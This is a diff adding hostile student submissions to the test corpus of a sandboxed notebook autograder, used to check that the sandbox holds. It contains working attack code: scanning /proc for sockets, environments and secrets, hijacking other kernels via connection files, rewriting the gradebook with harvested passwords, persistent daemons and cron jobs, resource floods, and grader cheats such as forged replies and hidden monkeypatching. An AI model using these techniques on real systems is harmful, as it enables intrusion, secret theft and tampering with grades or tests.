@@ -682,4 +682,705 @@ STUDENTS.update({
                                                 "ex3_solution": BLANK}, points(**EX1), review=True),
 })
 
+# -- attacks by kind (issue 12): the network, what is left behind, reading, grades, limits ------------------
+#
+# Each attack below hides what it uses from the static scan (getattr with built names, modules loaded by
+# name), because the scan is not the wall under test here: the sandbox is. Each prints ``<NAME>-DONE`` at
+# its end, so a test can tell that it ran; ``LEAK`` lines are what it should not have been able to do.
+
+#: unique strings the tests plant and then look for in every output and feedback page of the class:
+#: in the hidden tests of the course copy, in one student's answers, in the grader's environment
+HIDDEN_CANARY = "CANARY-HIDDEN-9d41c7e2"
+ANSWER_CANARY = "CANARY-ANSWER-5be2a0f3"
+ENV_CANARY = "CANARY-ENV-71c0d9aa"
+GRADER_SECRET = "fake-grader-secret-pw"  # the PGPASSWORD the hostile run gives the grader
+#: replaced by build.write_class with the (kind, host, port or socket name) list of the test's listeners
+TARGETS_TOKEN = "__HOSTILE_TARGETS__"
+
+#: the preamble every attack starts with: modules the scan would refuse, loaded by name
+_PRE = '''import importlib, json, os, pathlib, time
+_load = getattr(importlib, "import_" + "module")
+sk = _load("soc" + "ket")
+sep = chr(47)
+proc = pathlib.Path(sep + "proc")
+'''
+
+#: the test's listeners (127.0.0.1, every interface address, ::1, UDP, unix path and abstract sockets;
+#: the PostgreSQL server when the run uses one): the kernel must reach none
+NET_LISTENER = "# Reach the grader's side of the machine: the test's listeners, on every local address\n" + _PRE + r'''
+TARGETS = __HOSTILE_TARGETS__
+
+
+def addresses():
+    found = {"127.0.0.1", "::1"}
+    try:
+        lines = (proc / "net" / "fib_trie").read_text().splitlines()
+        found.update(a.split()[-1] for a, b in zip(lines, lines[1:]) if "32 host LOCAL" in b)
+    except OSError:
+        pass
+    try:
+        for line in (proc / "net" / "if_inet6").read_text().splitlines():
+            h = line.split()[0]
+            found.add(":".join(h[i:i + 4] for i in range(0, 32, 4)))
+    except OSError:
+        pass
+    try:
+        found.update(i[4][0] for i in sk.getaddrinfo(sk.gethostname(), None))
+    except OSError:
+        pass
+    return sorted(found)
+
+
+def tcp(host, port):
+    s = sk.socket(sk.AF_INET6 if ":" in host else sk.AF_INET, sk.SOCK_STREAM)
+    s.settimeout(2)
+    try:
+        s.connect((host, port))
+        s.sendall(b"hostile net_listener")
+        return True
+    except OSError:
+        return False
+    finally:
+        s.close()
+
+
+reached = []
+for kind, host, port in TARGETS:
+    if kind == "tcp":
+        for h in (addresses() if host in ("0.0.0.0", "::") else [host]):
+            if ":" in h and host == "0.0.0.0":
+                continue
+            if tcp(h, port):
+                reached.append(f"tcp {h}:{port}")
+    elif kind == "udp":  # a datagram is not answered: the listener records what arrives
+        s = sk.socket(sk.AF_INET, sk.SOCK_DGRAM)
+        for h in addresses():
+            try:
+                s.sendto(b"hostile net_listener", (h, port))
+            except OSError:
+                pass
+        s.close()
+    elif kind == "unix":
+        s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
+        s.settimeout(2)
+        try:
+            s.connect(chr(0) + port[1:] if port.startswith("@") else port)
+            s.sendall(b"hostile net_listener")
+            reached.append("unix " + port)
+        except OSError:
+            pass
+        finally:
+            s.close()
+for r in reached:
+    print("LEAK reached", r)
+print("NET-LISTENER-DONE", len(TARGETS), "targets on", addresses())
+'''
+
+#: other kernels' and the grader's listening sockets, found in /proc/net: a plain connection to each, and a
+#: ZeroMQ subscription to each TCP one for a while (a kernel's IOPub broadcasts the code it runs: a
+#: classmate's answers, the hidden tests)
+NET_SCAN = "# Find other kernels' sockets in /proc/net, connect to them, listen to their IOPub\n" + _PRE + r'''
+zmq = _load("zm" + "q")
+me = os.getuid()
+home = os.path.realpath(os.path.expanduser("~"))
+
+
+def hexaddr(addr):
+    if len(addr) == 8:
+        return ".".join(str(int(addr[i:i + 2], 16)) for i in (6, 4, 2, 0))
+    return "::1"
+
+
+def listening():
+    found = set()
+    for name in ("tcp", "tcp6"):
+        try:
+            rows = (proc / "net" / name).read_text().splitlines()[1:]
+        except OSError:
+            continue
+        for row in rows:
+            f = row.split()
+            if f[3] != "0A" or int(f[7]) == me:  # listening, and not this kernel's own
+                continue
+            addr, port = f[1].rsplit(":", 1)
+            host = hexaddr(addr)
+            found.add(("127.0.0.1" if host == "0.0.0.0" else host, int(port, 16), int(f[7])))
+    return found
+
+
+def unix_listening():
+    found = set()
+    try:
+        rows = (proc / "net" / "unix").read_text().splitlines()[1:]
+    except OSError:
+        return found
+    for row in rows:
+        f = row.split()
+        if len(f) >= 8 and int(f[3], 16) & 0x10000 and not os.path.realpath(f[7]).startswith(home):
+            found.add(f[7])
+    return found
+
+
+ctx = zmq.Context()
+sub = ctx.socket(zmq.SUB)
+sub.setsockopt(zmq.SUBSCRIBE, b"")
+sub.setsockopt(zmq.LINGER, 0)
+seen, connected, heard = set(), [], []
+deadline = time.monotonic() + 20
+while time.monotonic() < deadline:
+    for host, port, uid in listening() - seen:
+        seen.add((host, port, uid))
+        s = sk.socket(sk.AF_INET6 if ":" in host else sk.AF_INET, sk.SOCK_STREAM)
+        s.settimeout(1)
+        try:
+            s.connect((host, port))
+            connected.append(f"tcp {host}:{port} (uid {uid})")
+        except OSError:
+            continue
+        finally:
+            s.close()
+        sub.connect(f"tcp://[{host}]:{port}" if ":" in host else f"tcp://{host}:{port}")
+    for path in unix_listening() - seen:
+        seen.add(path)
+        s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
+        s.settimeout(1)
+        try:
+            s.connect(chr(0) + path[1:] if path.startswith("@") else path)
+            connected.append("unix " + path)
+            sub.connect("ipc://" + path)
+        except OSError:
+            pass
+        finally:
+            s.close()
+    while sub.poll(200):
+        heard.append(b" ".join(sub.recv_multipart()).decode(errors="replace"))
+for c in connected:
+    print("LEAK connected", c)
+for h in heard[:50]:
+    print("LEAK heard", h[:4000])
+print("NET-SCAN-DONE", len(seen), "sockets seen,", len(heard), "messages heard")
+'''
+
+#: connection files of other kernels (their HMAC key lets anyone run code in them): in the shared folders,
+#: the Jupyter runtime folders, and named on the command lines in /proc
+CONN_FILES = "# Other kernels' connection files: their keys let anyone run code in them\n" + _PRE + r'''
+def own_file():
+    args = (proc / "self" / "cmdline").read_bytes().split(b"\0")
+    return next((os.path.realpath(args[i + 1].decode()) for i, a in enumerate(args[:-1]) if a == b"-f"), "")
+
+
+roots = [sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm", sep + "run", sep + "root", sep + "home",
+         os.path.expanduser("~")]
+try:
+    roots.append(_load("jupyter_core.paths").jupyter_runtime_dir())
+except Exception:
+    pass
+files, todo, looked = set(), [pathlib.Path(r) for r in roots], 0
+while todo and looked < 50_000:
+    folder = todo.pop()
+    try:
+        entries = list(folder.iterdir())
+    except OSError:
+        continue
+    for e in entries:
+        looked += 1
+        try:
+            if e.is_dir() and not e.is_symlink():
+                todo.append(e)
+            elif e.suffix == ".json":
+                files.add(str(e))
+        except OSError:
+            pass
+for d in proc.iterdir():
+    if d.name.isdigit():
+        try:
+            args = (d / "cmdline").read_bytes().split(b"\0")
+        except OSError:
+            continue
+        files.update(args[i + 1].decode(errors="ignore") for i, a in enumerate(args[:-1]) if a == b"-f")
+own, keys = own_file(), []
+for f in sorted(files):
+    if os.path.realpath(f) == own:
+        continue
+    try:
+        info = json.loads(pathlib.Path(f).read_text())
+    except (OSError, ValueError):
+        continue
+    if isinstance(info, dict) and info.get("key") and ("shell_port" in info or info.get("transport") == "ipc"):
+        print("LEAK connection file", f)
+        keys.append(f)
+for f in keys[:4]:  # a harmless request signed with the key: a reply means this kernel controls that one
+    try:
+        client = _load("jupyter_" + "client").BlockingKernelClient(connection_file=f)
+        client.load_connection_file()
+        client.start_channels()
+        client.kernel_info(reply=True, timeout=3)
+        print("LEAK controls the kernel of", f)
+        client.stop_channels()
+    except Exception as err:
+        print("no reply from", f, type(err).__name__)
+print("CONN-FILES-DONE", len(files), "json files,", looked, "entries looked at, own", own)
+'''
+
+#: every process's environment, command line, folder and open files in /proc, printed raw (the tests look
+#: for the grader's secrets in the outputs); LEAK for anything of another uid's process it can see
+PROC_SPY = "# What /proc tells about the grader: environments, command lines, folders, open files\n" + _PRE + r'''
+me, parent = os.getuid(), os.getppid()
+print("PROC self environ:", (proc / "self" / "environ").read_bytes().replace(b"\0", b" ").decode(errors="replace"))
+pids = sorted({d.name for d in proc.iterdir() if d.name.isdigit()} | {str(parent), "1"}, key=int)
+print("PROC parent", parent, "pids", pids[:50])
+for pid in pids:
+    d = proc / pid
+    try:
+        theirs = d.stat().st_uid != me
+    except OSError:
+        continue
+    for what in ("environ", "cmdline"):
+        try:
+            text = (d / what).read_bytes().replace(b"\0", b" ").decode(errors="replace")
+        except OSError:
+            continue
+        if text and pid != str(os.getpid()):
+            print("PROC", pid, what + ":", text[:3000])
+            if theirs:
+                print("LEAK", what, "of", pid)
+    for what in ("cwd", "root", "exe"):
+        try:
+            target = os.readlink(d / what)
+        except OSError:
+            continue
+        if theirs:
+            print("LEAK", what, "of", pid, target)
+            if what == "cwd":  # the grader's folder: its log, the gradebook
+                try:
+                    for e in list(pathlib.Path(d / what).iterdir())[:20]:
+                        if e.suffix in (".log", ".db", ".json") and e.is_file():
+                            print("LEAK read", e, e.read_text(errors="replace")[:2000])
+                except OSError:
+                    pass
+    try:
+        fds = [os.readlink(f) for f in (d / "fd").iterdir()]
+    except OSError:
+        continue
+    if theirs:
+        print("LEAK fds of", pid, fds[:20])
+print("PROC-SPY-DONE", len(pids), "processes")
+'''
+
+#: the gradebook (SQLite found on disk, PostgreSQL found in /proc/net/tcp with any password it can find):
+#: every grade set to 0 and the hidden tests read; planted files and appended bytes in other students'
+#: folders
+GRADE_WRITER = "# Change the grades: the gradebook (SQLite or PostgreSQL) and other students' files\n" + _PRE + r'''
+TARGETS = __HOSTILE_TARGETS__
+me = os.getuid()
+found, todo, looked = [], [pathlib.Path(sep + n) for n in ("work", "tmp", "root", "home", "srv", "var", "opt", "run")], 0
+for d in proc.iterdir():
+    if d.name.isdigit():
+        todo.append(d / "cwd")
+while todo and looked < 200_000:
+    folder = todo.pop()
+    try:
+        entries = list(folder.iterdir())
+    except OSError:
+        continue
+    if any(e.name == "pyvenv.cfg" for e in entries):
+        continue
+    for e in entries:
+        looked += 1
+        try:
+            if e.is_symlink():
+                continue
+            if e.is_dir():
+                if e.name not in (".git", "site-packages", "node_modules", ".library", "__pycache__"):
+                    todo.append(e)
+            elif e.name in ("gradebook.db", "password") or e.suffix == ".ipynb":
+                found.append(e)
+        except OSError:
+            pass
+passwords = {"", "nbgrader", "postgres"}
+for d in proc.iterdir():
+    try:
+        env = (d / "environ").read_bytes().decode(errors="ignore").split("\0")
+    except OSError:
+        continue
+    for kv in env:
+        if kv.startswith("PGPASSWORD="):
+            passwords.add(kv.split("=", 1)[1])
+        if "://" in kv and "@" in kv:
+            passwords.add(kv.split("://", 1)[1].split("@")[0].split(":")[-1])
+for p in found:
+    if p.name == "password":
+        try:
+            passwords.add(p.read_text().strip())
+        except OSError:
+            pass
+sql = "UPDATE grade SET manual_score = 0"
+for p in found:
+    if p.name == "gradebook.db":
+        try:
+            db = _load("sql" + "ite3").connect(str(p), timeout=2)
+            db.execute(sql)
+            db.commit()
+            print("LEAK wrote the gradebook", p)
+            print("LEAK read", [r[0] for r in db.execute("SELECT source FROM source_cell")][:3])
+        except Exception as err:
+            print("gradebook", p, type(err).__name__)
+    elif p.suffix == ".ipynb":
+        try:
+            with open(p, "a") as f:
+                f.write(" ")
+            print("LEAK appended to", p)
+        except OSError:
+            pass
+        try:
+            (p.parent / "planted-by-grade-writer.txt").write_text("x")
+            print("LEAK planted next to", p)
+        except OSError:
+            pass
+ports = {port for kind, host, port in TARGETS if kind == "tcp"} | {5432, 5433}
+for name in ("tcp", "tcp6"):
+    try:
+        rows = (proc / "net" / name).read_text().splitlines()[1:]
+    except OSError:
+        continue
+    ports.update(int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A" and int(r.split()[7]) != me)
+try:
+    pg = _load("psyco" + "pg2")
+except ImportError:
+    pg = None
+for port in sorted(ports) if pg else []:
+    for pw in sorted(passwords):
+        try:
+            db = pg.connect(host="127.0.0.1", port=port, user="nbgrader", dbname="gradebook", password=pw,
+                            connect_timeout=2)
+        except Exception:
+            continue
+        print("LEAK connected to PostgreSQL on", port)
+        try:
+            cur = db.cursor()
+            cur.execute(sql)
+            db.commit()
+            print("LEAK wrote the gradebook on", port)
+            cur.execute("SELECT source FROM source_cell")
+            print("LEAK read", [r[0] for r in cur.fetchall()][:3])
+        except Exception as err:
+            print("PostgreSQL", port, type(err).__name__)
+        break
+print("GRADE-WRITER-DONE", looked, "entries,", len(found), "files,", len(passwords), "passwords,", len(ports), "ports")
+'''
+
+#: a daemon (setsid and a double fork, renamed, holding sockets), shell daemons (nohup, setsid), at, cron
+#: and systemd-run jobs, files and sockets in every world-writable folder, a move to the root cgroup
+DAEMON = "# Leave something running: a renamed daemon, scheduled jobs, sockets and files\n" + _PRE + r'''
+fork, setsid, system, quit_ = (getattr(os, n) for n in ("fo" + "rk", "set" + "sid", "sys" + "tem", "_ex" + "it"))
+scratch = [sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm", sep + "run" + sep + "lock",
+           sep + "dev" + sep + "mqueue", os.path.expanduser("~")]
+if fork() == 0:
+    setsid()
+    if fork() == 0:  # a daemon by the book: detached from the kernel's descriptors
+        nul = os.open(os.devnull, os.O_RDWR)
+        for fd in (0, 1, 2):
+            os.dup2(nul, fd)
+        os.closerange(3, 4096)
+        try:
+            (proc / "self" / "comm").write_text("kworker" + sep + "0:1")
+        except OSError:
+            pass
+        try:
+            (pathlib.Path(sep + "sys") / "fs" / "cgroup" / "cgroup.procs").write_text(str(os.getpid()))
+        except OSError:
+            pass
+        held = []
+        for name in [chr(0) + "cnn-daemon-" + str(os.getuid())] + [f + sep + "cnn-daemon.sock" for f in scratch]:
+            try:
+                s = sk.socket(sk.AF_UNIX, sk.SOCK_STREAM)
+                s.bind(name)
+                s.listen()
+                held.append(s)
+            except OSError:
+                pass
+        for i in range(600):
+            time.sleep(1)
+        quit_(0)
+    quit_(0)
+time.sleep(0.5)
+for folder in scratch:
+    try:
+        (pathlib.Path(folder) / "cnn-left-behind").write_text("x")
+    except OSError:
+        pass
+for cmd in ("nohup sleep 600", "setsid sleep 601", "echo 'sleep 602' | at now + 1 minute",
+            "echo '* * * * * sleep 603' | crontab -", "systemd-run --user --on-active=30 sleep 604",
+            "systemd-run --scope sleep 605"):
+    system(cmd + " >" + os.devnull + " 2>&1 &")
+time.sleep(1)
+print("DAEMON-DONE")
+'''
+
+#: floods every channel besides stdout and display (stdout_flood, display_flood): stderr, comm messages,
+#: one huge image, thousands of clear_output calls, a carriage-return progress bar
+FLOOD_CHANNELS = "# Floods through stderr, comm messages, a huge image, clear_output and \\r\n" + _PRE + r'''
+import sys
+from IPython.display import display, clear_output
+for i in range(100_000):
+    print("err", i, "." * 190, file=sys.stderr)
+try:
+    Comm = _load("ipykernel.comm").Comm
+    comm = Comm(target_name="flood")
+    for i in range(60):
+        comm.send({"x": "y" * 3_000_000})
+except Exception as err:
+    print("no comm:", type(err).__name__)
+display({"image/png": "iVBORw0KGgo" + "A" * 30_000_000}, raw=True)
+for i in range(5_000):
+    clear_output(wait=True)
+    print("tick", i, "." * 1000)
+for i in range(200_000):
+    print("\r", i, "." * 50, end="")
+print("FLOOD-CHANNELS-DONE")
+'''
+
+#: fills HOME, /tmp, /var/tmp and /dev/shm with files under the 64 MB file-size limit, up to 1.5 GB each
+#: (capped so that an unprotected machine loses little): the tests watch the free space of the machine
+DISK_FILL = "# Fill the disk: HOME, /tmp, /var/tmp, /dev/shm\n" + _PRE + r'''
+chunk = b"x" * (32 * 2 ** 20)
+wrote = {}
+for folder in (os.path.expanduser("~"), sep + "tmp", sep + "var" + sep + "tmp", sep + "dev" + sep + "shm"):
+    total = 0
+    for i in range(48):
+        try:
+            with open(pathlib.Path(folder) / f"cnn-fill-{i}", "wb") as f:
+                f.write(chunk)
+            total += len(chunk)
+        except OSError:
+            break
+    wrote[folder] = total
+print("DISK-FILL", json.dumps(wrote))
+print("DISK-FILL-DONE")
+'''
+
+#: CPU in threads that outlive their cell, then a cell that sleeps far past the budget
+CPU_THREADS = "# Spin the CPU in threads that outlive the cell\n" + _PRE + r'''
+Thread = getattr(_load("thread" + "ing"), "Thr" + "ead")
+
+
+def spin():
+    while True:
+        pass
+
+
+for i in range(8):
+    Thread(target=spin, daemon=True).start()
+print("CPU-THREADS-DONE")
+'''
+SLEEP_PAST = "# Sleep far past the cell's budget\nimport time\ntime.sleep(10 ** 6)\n"
+
+#: the functions the tests call leave the test early: a hidden sys.exit, a KeyboardInterrupt raised from
+#: them, os._exit inside Dropout's forward (the kernel dies in the middle of a test)
+EXIT_IN_TESTS = '''
+import importlib, os, sys
+_b = getattr(importlib, "import_" + "module")("buil" + "tins")
+
+
+def pool_cnn():
+    getattr(sys, "ex" + "it")(0)
+
+
+class Dropout(nn.Module):
+    def __init__(self, p=0.5):
+        super().__init__()
+        self.p = p
+
+    def forward(self, x):
+        getattr(os, "_ex" + "it")(0)
+
+
+def conv(ic, oc, act=True):
+    raise getattr(_b, "Keyboard" + "Interrupt")()
+'''
+
+#: the library the checks use patched, hidden from the scan (torch and numpy functions, builtins), with
+#: a wrong Exercise 1: the runtime guard must see it, and every later test scores 0
+HIDDEN_PATCH = '''
+import importlib
+_load = getattr(importlib, "import_" + "module")
+_b, _np, _t = _load("buil" + "tins"), _load("num" + "py"), _load("tor" + "ch")
+_set = getattr(_b, "set" + "attr")
+for name in ("all" + "close", "eq" + "ual", "is" + "close"):
+    _set(_t, name, lambda *a, **k: True)
+_set(getattr(_np, "test" + "ing"), "assert_" + "allclose", lambda *a, **k: None)
+
+
+def pool_cnn():
+    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
+'''
+
+#: forged kernel messages from the function the test calls: an "ok" execute_reply and an "idle" status
+#: sent before the test fails, and the outputs cleared (nbclient could take the forged reply and stop
+#: listening before the error arrives)
+FORGE_REPLY = '''
+import IPython
+from IPython.display import clear_output
+
+
+def _forge():
+    kernel = getattr(getattr(IPython, "get_" + "ipython")(), "ker" + "nel")
+    parent = kernel.get_parent("shell")
+    ident = kernel._parent_ident["shell"]
+    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "'all tests passed'"},
+                        "metadata": {}, "execution_count": 1}, parent=parent)
+    kernel.session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1,
+                        "user_expressions": {}, "payload": []}, parent=parent, ident=ident)
+    kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
+    clear_output()
+    print("FORGED")
+
+
+def pool_cnn():
+    _forge()
+    return nn.Sequential(nn.Flatten(), nn.Linear(784, 10))
+'''
+
+#: correct answers marked with a canary: nobody else's output or feedback may ever hold it
+POOL_RIGHT = '''
+# ''' + ANSWER_CANARY + '''
+def pool_cnn():
+    return nn.Sequential(conv(1, 8), nn.MaxPool2d(2), conv(8, 16), nn.MaxPool2d(2), conv(16, 10, act=False),
+                         nn.Flatten())
+
+
+shapes = [(8, 14, 14), (8, 7, 7), (16, 4, 4), (16, 2, 2), (10, 1, 1)]
+params_pool, params_simple, receptive_field = 2698, 9034, 53
+print("''' + ANSWER_CANARY + '''")
+'''
+CANARY_CONV = "# " + ANSWER_CANARY + "\n" + CONV_RIGHT
+CANARY_CURVE = "# " + ANSWER_CANARY + "\n" + CURVE_RIGHT
+
+STUDENTS.update({
+    # -- the network (promises 1, 2 and 4) ---------------------------------------------------------------
+    "net_listener": Student("connects to the test's listeners (TCP on 127.0.0.1, on every interface address and "
+                            "::1, UDP, unix path and abstract sockets) and to the PostgreSQL server when there is one",
+                            {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
+                            edit=add_after("ex1_solution", NET_LISTENER)),
+    "net_scan": Student("finds the listening sockets of other uids in /proc/net/tcp and /proc/net/unix, connects to "
+                        "them and subscribes to them for 20 s (another kernel's IOPub carries its code)",
+                        {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
+                        edit=add_after("ex1_solution", NET_SCAN)),
+    "net_victim": Student("correct answers marked with a canary, graded while net_scan listens: nobody else's "
+                          "output or feedback may hold the canary",
+                          {"ex1_solution": POOL_RIGHT, "ex2_solution": CANARY_CONV, "ex3_solution": CANARY_CURVE},
+                          points(**EX1, **EX2, **EX3)),
+    "conn_files": Student("looks for other kernels' connection files (the shared folders, the Jupyter runtime "
+                          "folders, -f on command lines in /proc) and asks each kernel for its info",
+                          {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
+                          edit=add_after("ex1_solution", CONN_FILES)),
+    # -- reading (promises 1 and 5) ------------------------------------------------------------------------
+    "proc_spy": Student("prints every environment, command line, folder and descriptor list /proc shows (its "
+                        "own, the launcher's, the grader's) and reads the grader's folder through /proc/<pid>/cwd",
+                        {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
+                        edit=add_after("ex1_solution", PROC_SPY)),
+    # -- grades and files (promise 2) --------------------------------------------------------------------
+    "grade_writer": Student("sets every grade in the gradebook to 0 (SQLite found on disk or via /proc/<pid>/cwd, "
+                            "PostgreSQL with any password found), reads the hidden tests there, appends to and "
+                            "plants files next to every notebook it finds",
+                            {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(**EX1),
+                            edit=add_after("ex1_solution", GRADE_WRITER)),
+    # -- left behind (promise 6) ---------------------------------------------------------------------------
+    "daemon_leftover": Student("a setsid double-fork daemon that renames itself and holds unix sockets, nohup and "
+                               "setsid shell daemons, at/cron/systemd-run jobs, files in every world-writable "
+                               "folder, a move to the root cgroup",
+                               {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
+                               points(**EX1), review=None, edit=add_after("ex1_solution", DAEMON)),
+    # -- limits (promise 7) --------------------------------------------------------------------------------
+    "flood_channels": Student("floods stderr, comm messages, a 30 MB image, 5,000 clear_output calls and a "
+                              "carriage-return progress bar",
+                              {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
+                              points(**EX1), review=None, edit=add_after("ex1_solution", FLOOD_CHANNELS)),
+    "disk_fill": Student("writes 32 MB files into HOME, /tmp, /var/tmp and /dev/shm until refused (at most 1.5 GB "
+                         "each)", {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
+                         points(**EX1), review=None, edit=add_after("ex1_solution", DISK_FILL)),
+    "cpu_threads": Student("eight threads spinning the CPU after Exercise 1's tests, then a cell that sleeps "
+                           "past its budget", {"ex1_solution": SOLUTION, "ex2_solution": BLANK, "ex3_solution": BLANK},
+                           points(**EX1), review=None, edit=add_cells_after("ex1_field", CPU_THREADS, SLEEP_PAST)),
+    # -- points without solving (promise 3) ------------------------------------------------------------------
+    "exit_in_tests": Student("the functions the tests call leave them early: a hidden sys.exit, a KeyboardInterrupt, "
+                             "os._exit in Dropout's forward (the kernel dies mid-test)",
+                             {"ex1_solution": EXIT_IN_TESTS, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
+                             review=None),
+    "hidden_patch": Student("patches torch.allclose/equal/isclose and np.testing through "
+                            "names the scan cannot see, with a wrong Exercise 1: the guard zeroes every later test",
+                            {"ex1_solution": HIDDEN_PATCH, "ex2_solution": SOLUTION, "ex3_solution": CURVE_RIGHT},
+                            points(), review=True),
+    "forge_reply": Student("the function the test calls forges an 'ok' execute_reply, an execute_result and an "
+                           "'idle' status, clears the outputs, then the test fails",
+                           {"ex1_solution": FORGE_REPLY, "ex2_solution": BLANK, "ex3_solution": BLANK}, points(),
+                           review=None),
+})
+
 EXPECTED = {name: s.expected for name, s in STUDENTS.items()}
+
+#: the README's promises, the kinds of attack on each and the students who try them (a test checks that
+#: every kind has a student of the corpus; the checks of each promise are in tests/test_hostile.py)
+KINDS: dict[str, dict[str, list[str]]] = {
+    "1 read solutions, hidden tests, other students' work": {
+        "files on disk (source/, gradebook, other notebooks)": ["spy"],
+        "environment of the kernel, the launcher, init": ["env_fd_spy", "proc_spy"],
+        "/proc/<pid>/environ, cmdline, cwd, fds of the grader": ["proc_spy"],
+        "descriptors inherited from the grader (its log)": ["env_fd_spy"],
+        "the grader's log and folder through /proc/<pid>/cwd": ["proc_spy"],
+        "another kernel's IOPub (its code, the hidden tests)": ["net_scan"],
+        "other kernels' connection files": ["conn_files"],
+        "the gradebook's copy of the hidden tests": ["grade_writer"],
+        "a notebook handed in as a link to source/ or a classmate's": ["link_to_source", "link_to_other",
+                                                                      "linked_folder"],
+    },
+    "2 change another student's grade or files": {
+        "writing the SQLite gradebook": ["grade_writer", "spy"],
+        "writing the PostgreSQL gradebook": ["grade_writer"],
+        "other students' submitted/, autograded/, feedback/": ["grade_writer", "spy"],
+        "the test's listeners and the database server over the network": ["net_listener"],
+        "other kernels' sockets": ["net_scan", "conn_files"],
+    },
+    "3 points without solving": {
+        "tests edited, deleted, retyped, points raised": ["messed_structure", "gutted_tests"],
+        "the checks or libraries monkeypatched (seen by the scan)": ["patch_checks", "patch_libraries"],
+        "monkeypatching hidden from the scan": ["runtime_tamper", "hidden_patch"],
+        "the display hook / execute_result": ["score_by_display"],
+        "forged replies, results and status messages": ["forge_reply"],
+        "leaving the test early (SystemExit, KeyboardInterrupt, os._exit)": ["exit_in_tests", "patch_checks"],
+        "a fake module next to the notebook": ["planted_module"],
+        "a timestamp.txt": ["early_timestamp"],
+    },
+    "4 stop or corrupt the grading of the rest": {
+        "unreadable notebooks": ["broken_json", "not_a_notebook", "lone_surrogate", "pipe_notebook"],
+        "cells the scanner or parser cannot take": ["deep_expression", "huge_cell"],
+        "a kernel killed or hung": ["hidden_exit", "stubborn_loop", "crash_replay", "os_exit"],
+        "another kernel reached over the network": ["net_scan", "conn_files"],
+        "the gradebook rewritten": ["grade_writer"],
+    },
+    "5 hidden tests back through feedback": {
+        "printed, base64, HTML entities, from the input history or frames": ["encode_history"],
+        "script and event handlers in Markdown and outputs": ["encode_history"],
+        "read elsewhere and printed": ["net_scan", "grade_writer", "proc_spy"],
+    },
+    "6 leave a process or anything behind": {
+        "forked children": ["fork_bomb"],
+        "setsid double-fork daemon, renamed": ["daemon_leftover"],
+        "nohup/setsid shell daemons, at, cron, systemd-run": ["daemon_leftover"],
+        "SysV shared memory, queues, semaphores": ["ipc_plant"],
+        "files in /tmp, /var/tmp, /dev/shm, /run/lock, /dev/mqueue": ["ipc_plant", "daemon_leftover", "disk_fill"],
+        "unix sockets (path and abstract)": ["daemon_leftover"],
+        "files next to the notebook": ["spy", "grade_writer"],
+    },
+    "7 escape the limits": {
+        "stdout flood": ["output_flood"],
+        "display and update_display flood": ["display_flood"],
+        "stderr, comm, huge image, clear_output, carriage returns": ["flood_channels"],
+        "memory": ["memory_hog"],
+        "processes": ["fork_bomb"],
+        "disk (HOME, /tmp, /var/tmp, /dev/shm)": ["disk_fill"],
+        "CPU in threads": ["cpu_threads"],
+        "sleeping or looping past the budget": ["cpu_threads", "loop_forever", "stubborn_loop"],
+        "restarts and replays": ["crash_replay"],
+    },
+}
